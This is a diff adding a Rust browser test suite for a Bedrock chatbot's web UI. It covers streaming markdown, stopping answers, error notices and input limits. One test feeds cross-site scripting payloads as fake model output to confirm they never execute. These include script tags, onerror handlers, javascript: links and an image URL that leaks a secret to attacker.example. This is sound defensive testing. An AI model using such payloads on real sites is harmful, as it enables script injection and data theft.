@@ -1,0 +1,455 @@
+#![allow(clippy::unwrap_used)]
+//! The UI in headless Chromium (Debian's `chromium` and `chromium-driver`, installed
+//! by `scripts/setup-browser`), driven through chromedriver with fantoccini, against
+//! the real server with the development identity and the Bedrock stand-in.
+
+mod support;
+
+use std::net::{Ipv4Addr, SocketAddr, TcpStream};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use bedrock_standin::{Fault, Reply};
+use fantoccini::{Client, ClientBuilder, Locator};
+use serde_json::{Value, json};
+use support::*;
+use tokio::sync::oneshot;
+
+const CHROMIUM: &str = "/usr/bin/chromium";
+const CHROMEDRIVER: &str = "/usr/bin/chromedriver";
+
+/// A chromedriver process, a fresh browser profile and a WebDriver session.
+struct Browser {
+    client: Client,
+    driver: Child,
+    profile: PathBuf,
+}
+
+impl Browser {
+    async fn start() -> Self {
+        for path in [CHROMIUM, CHROMEDRIVER] {
+            assert!(
+                Path::new(path).exists(),
+                "{path} is missing: the UI tests need Debian's chromium and chromium-driver; run ./scripts/setup-browser"
+            );
+        }
+        let port = std::net::TcpListener::bind((Ipv4Addr::LOCALHOST, 0))
+            .unwrap()
+            .local_addr()
+            .unwrap()
+            .port();
+        let driver = Command::new(CHROMEDRIVER)
+            .arg(format!("--port={port}"))
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap();
+        let deadline = Instant::now() + Duration::from_secs(30);
+        while TcpStream::connect((Ipv4Addr::LOCALHOST, port)).is_err() {
+            assert!(Instant::now() < deadline, "chromedriver did not start");
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        let profile =
+            std::env::temp_dir().join(format!("chatbot-ui-{}-{port}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&profile);
+        let mut capabilities = serde_json::Map::new();
+        capabilities.insert(
+            "goog:chromeOptions".into(),
+            json!({
+                "binary": CHROMIUM,
+                "args": [
+                    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
+                    "--no-first-run", "--disable-background-networking",
+                    "--disable-component-update", "--disable-sync",
+                    "--disable-dev-shm-usage", "--window-size=1200,900",
+                    format!("--user-data-dir={}", profile.display()),
+                ],
+            }),
+        );
+        let client = ClientBuilder::new(hyper_util::client::legacy::connect::HttpConnector::new())
+            .capabilities(capabilities)
+            .connect(&format!("http://127.0.0.1:{port}"))
+            .await
+            .unwrap();
+        Self {
+            client,
+            driver,
+            profile,
+        }
+    }
+
+    async fn js(&self, script: &str) -> Value {
+        self.client.execute(script, vec![]).await.unwrap()
+    }
+
+    /// Waits until `script` returns true (a ceiling, not a timing assertion).
+    async fn wait_for(&self, what: &str, script: &str) {
+        let deadline = Instant::now() + Duration::from_secs(20);
+        loop {
+            if self.js(script).await == Value::Bool(true) {
+                return;
+            }
+            assert!(Instant::now() < deadline, "never happened: {what}");
+            tokio::time::sleep(Duration::from_millis(25)).await;
+        }
+    }
+
+    async fn ask(&self, question: &str) {
+        let input = self.client.find(Locator::Id("input")).await.unwrap();
+        input.send_keys(question).await.unwrap();
+        self.client
+            .find(Locator::Id("send"))
+            .await
+            .unwrap()
+            .click()
+            .await
+            .unwrap();
+    }
+
+    async fn answer_done(&self) {
+        self.wait_for(
+            "the answer to finish",
+            "return document.getElementById('messages').getAttribute('aria-busy') === 'false' \
+             && !!document.querySelector('.message.assistant') \
+             && document.getElementById('stop').hidden",
+        )
+        .await;
+    }
+
+    async fn close(mut self) {
+        let _ = self.client.clone().close().await;
+        let _ = self.driver.kill();
+        let _ = self.driver.wait();
+        let _ = std::fs::remove_dir_all(&self.profile);
+    }
+}
+
+struct Server {
+    url: String,
+    stop: oneshot::Sender<()>,
+}
+
+async fn serve(world: &World) -> Server {
+    let listener = bedrock_chatbot::app::bind("127.0.0.1:0").await.unwrap();
+    let addr: SocketAddr = listener.local_addr().unwrap();
+    let (stop, signal) = oneshot::channel::<()>();
+    tokio::spawn(bedrock_chatbot::serve(
+        world.state.clone(),
+        listener,
+        async move {
+            let _ = signal.await;
+        },
+    ));
+    Server {
+        url: format!("http://{addr}/"),
+        stop,
+    }
+}
+
+async fn open(world: &World) -> (Browser, Server) {
+    let server = serve(world).await;
+    let browser = Browser::start().await;
+    browser.client.goto(&server.url).await.unwrap();
+    browser
+        .wait_for(
+            "the page to load and know who is signed in",
+            "return document.body.dataset.ready === 'true' && document.getElementById('who').textContent === 'dev@example.com'",
+        )
+        .await;
+    (browser, server)
+}
+
+const MARKDOWN_ANSWER: &str = "## Streaming works\n\nThis is **bold**, *italic* and `inline code`.\n\n- first\n- second\n\n```rust\nfn main() {\n    let answer = 42; // the answer\n    println!(\"{answer}\");\n}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn asks_watches_the_answer_stream_renders_markdown_and_remembers() {
+    let world = World::dev("dev@example.com").await;
+    world
+        .standin
+        .state()
+        .push_reply(Reply::text(MARKDOWN_ANSWER).paced(Duration::from_millis(40)));
+    let (browser, server) = open(&world).await;
+
+    // Signed in, and the development identity says so.
+    assert_eq!(
+        browser
+            .js("return document.getElementById('dev-banner').hidden")
+            .await,
+        false
+    );
+    assert!(
+        browser
+            .js("return document.getElementById('dev-banner').textContent")
+            .await
+            .as_str()
+            .unwrap()
+            .contains("Development identity")
+    );
+
+    browser.ask("Show me some markdown").await;
+
+    // While tokens arrive the log is busy and the answer grows.
+    browser
+        .wait_for(
+            "part of the answer while streaming",
+            "const m = document.getElementById('messages'); \
+             const a = document.querySelector('.message.assistant .body'); \
+             return m.getAttribute('aria-busy') === 'true' && !!a && a.textContent.includes('Streaming')",
+        )
+        .await;
+    assert_eq!(
+        browser
+            .js("return document.getElementById('stop').hidden")
+            .await,
+        false,
+        "stop is offered while streaming"
+    );
+    browser.answer_done().await;
+
+    let rendered = browser
+        .js("const a = document.querySelector('.message.assistant .body'); return {
+                h: a.querySelector('h3') && a.querySelector('h3').textContent,
+                strong: a.querySelector('strong') && a.querySelector('strong').textContent,
+                em: !!a.querySelector('em'),
+                inlineCode: a.querySelector('p code') && a.querySelector('p code').textContent,
+                items: a.querySelectorAll('ul li').length,
+                codeClass: a.querySelector('pre code') && a.querySelector('pre code').className,
+                keywords: Array.from(a.querySelectorAll('pre .tok-kw')).map(e => e.textContent),
+                comment: a.querySelector('pre .tok-com') && a.querySelector('pre .tok-com').textContent,
+                cells: a.querySelectorAll('table td').length,
+                usage: document.querySelector('.message.assistant .meta').textContent,
+            }")
+        .await;
+    assert_eq!(rendered["h"], "Streaming works");
+    assert_eq!(rendered["strong"], "bold");
+    assert_eq!(rendered["em"], true);
+    assert_eq!(rendered["inlineCode"], "inline code");
+    assert_eq!(rendered["items"], 2);
+    assert_eq!(rendered["codeClass"], "language-rust");
+    let keywords: Vec<&str> = rendered["keywords"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|k| k.as_str().unwrap())
+        .collect();
+    assert!(
+        keywords.contains(&"fn") && keywords.contains(&"let"),
+        "{keywords:?}"
+    );
+    assert_eq!(rendered["comment"], "// the answer");
+    assert_eq!(rendered["cells"], 2);
+    assert!(
+        rendered["usage"].as_str().unwrap().contains("out tokens"),
+        "{rendered}"
+    );
+    assert_eq!(
+        browser
+            .js("return document.getElementById('title').textContent")
+            .await,
+        "Show me some markdown"
+    );
+
+    // The conversation survives a reload, and the next question carries it.
+    browser.client.refresh().await.unwrap();
+    browser
+        .wait_for(
+            "the conversation after reload",
+            "return document.body.dataset.ready === 'true' && document.querySelectorAll('.message').length === 2",
+        )
+        .await;
+    browser.ask("And again?").await;
+    browser.answer_done().await;
+    let sent = world.standin.state().requests();
+    assert_eq!(sent.len(), 2);
+    let history = sent[1].messages();
+    assert_eq!(history.len(), 3);
+    assert_eq!(history[0].1, "Show me some markdown");
+    assert_eq!(history[1].1, MARKDOWN_ANSWER);
+    assert_eq!(history[2].1, "And again?");
+
+    // A new chat starts empty and both conversations are listed.
+    browser
+        .client
+        .find(Locator::Id("new-chat"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    browser.ask("A second conversation").await;
+    browser.answer_done().await;
+    assert_eq!(
+        browser
+            .js("return document.querySelectorAll('#conversations li').length")
+            .await,
+        2
+    );
+    assert_eq!(
+        browser
+            .js("return document.querySelectorAll('.message').length")
+            .await,
+        2
+    );
+
+    browser.close().await;
+    let _ = server.stop.send(());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn stop_ends_the_answer_and_the_bedrock_stream() {
+    let world = World::dev("dev@example.com").await;
+    world
+        .standin
+        .state()
+        .push_reply(Reply::text("word ".repeat(3000)).paced(Duration::from_millis(20)));
+    let (browser, server) = open(&world).await;
+
+    browser.ask("Talk for a long time").await;
+    browser
+        .wait_for(
+            "the first words",
+            "const a = document.querySelector('.message.assistant .body'); return !!a && a.textContent.includes('word word')",
+        )
+        .await;
+    browser
+        .client
+        .find(Locator::Id("stop"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+    browser.answer_done().await;
+
+    let state = world.standin.state().clone();
+    wait_until(|| state.streams_abandoned() == 1).await;
+    assert_eq!(state.streams_finished(), 0);
+    let meta = browser
+        .js("return document.querySelector('.message.assistant .meta').textContent")
+        .await;
+    assert!(meta.as_str().unwrap().contains("Stopped"), "{meta}");
+    let shown = browser
+        .js("return document.querySelector('.message.assistant .body').textContent.length")
+        .await;
+    assert!(shown.as_u64().unwrap() < "word ".len() as u64 * 3000);
+
+    browser.close().await;
+    let _ = server.stop.send(());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn model_output_never_runs_script() {
+    let world = World::dev("dev@example.com").await;
+    let payload = "Look: <script>window.__pwned = 'script'</script>\n\n\
+        <img src=x onerror=\"window.__pwned = 'img'\">\n\n\
+        [click me](javascript:window.__pwned='link') and ![pic](javascript:window.__pwned='image')\n\n\
+        ![remote](https://attacker.example/leak?q=secret)\n\n\
+        <b onmouseover=\"window.__pwned='b'\">hover</b> `<script>alert(1)</script>`\n";
+    world.standin.state().push_reply(Reply::text(payload));
+    let (browser, server) = open(&world).await;
+
+    browser.ask("Say something nasty").await;
+    browser.answer_done().await;
+    // Give any injected handler a chance to fire, then look.
+    browser
+        .client
+        .find(Locator::Css(".message.assistant .body"))
+        .await
+        .unwrap()
+        .click()
+        .await
+        .unwrap();
+
+    let verdict = browser
+        .js("const a = document.querySelector('.message.assistant .body'); return {
+                pwned: window.__pwned === undefined ? null : window.__pwned,
+                dangerous: a.querySelectorAll('script, img, iframe, object, embed, [onerror], [onmouseover], [onclick], [style]').length,
+                badLinks: Array.from(a.querySelectorAll('a')).filter(l => !/^(https?:|mailto:)/.test(l.getAttribute('href'))).length,
+                text: a.textContent,
+            }")
+        .await;
+    assert_eq!(verdict["pwned"], Value::Null, "{verdict}");
+    assert_eq!(verdict["dangerous"], 0, "{verdict}");
+    assert_eq!(verdict["badLinks"], 0, "{verdict}");
+    let text = verdict["text"].as_str().unwrap();
+    assert!(
+        text.contains("<script>window.__pwned = 'script'</script>"),
+        "shown as text: {text}"
+    );
+    assert!(
+        text.contains("<img src=x onerror="),
+        "shown as text: {text}"
+    );
+
+    browser.close().await;
+    let _ = server.stop.send(());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn throttling_model_access_and_long_input_are_explained() {
+    let world = World::dev("dev@example.com").await;
+    world
+        .standin
+        .state()
+        .push_reply(Reply::fault(Fault::Throttling));
+    world
+        .standin
+        .state()
+        .push_reply(Reply::fault(Fault::AccessDenied));
+    let (browser, server) = open(&world).await;
+
+    browser.ask("first").await;
+    browser
+        .wait_for(
+            "the busy notice",
+            "const n = document.getElementById('notice'); return !n.hidden && /busy right now\\. Retry in \\d+ s\\./.test(n.textContent)",
+        )
+        .await;
+    assert_eq!(
+        browser
+            .js("return document.getElementById('send').disabled")
+            .await,
+        true,
+        "send waits for the retry time"
+    );
+
+    // After the wait, the next question meets the model-access error.
+    browser
+        .wait_for(
+            "the retry countdown to end",
+            "return document.getElementById('notice').hidden",
+        )
+        .await;
+    browser.ask("second").await;
+    browser
+        .wait_for(
+            "the model access notice",
+            "const n = document.getElementById('notice'); return !n.hidden && n.textContent.includes('model access is not enabled')",
+        )
+        .await;
+
+    // Too long a message is refused in the page, before any request.
+    let before = world.standin.state().requests().len();
+    browser
+        .js("const i = document.getElementById('input'); i.value = 'x'.repeat(32001); i.dispatchEvent(new Event('input')); return true")
+        .await;
+    assert_eq!(
+        browser
+            .js("return document.getElementById('send').disabled")
+            .await,
+        true
+    );
+    assert!(
+        browser
+            .js("return document.getElementById('counter').textContent")
+            .await
+            .as_str()
+            .unwrap()
+            .contains("32,001")
+    );
+    assert_eq!(world.standin.state().requests().len(), before);
+
+    browser.close().await;
+    let _ = server.stop.send(());
+}
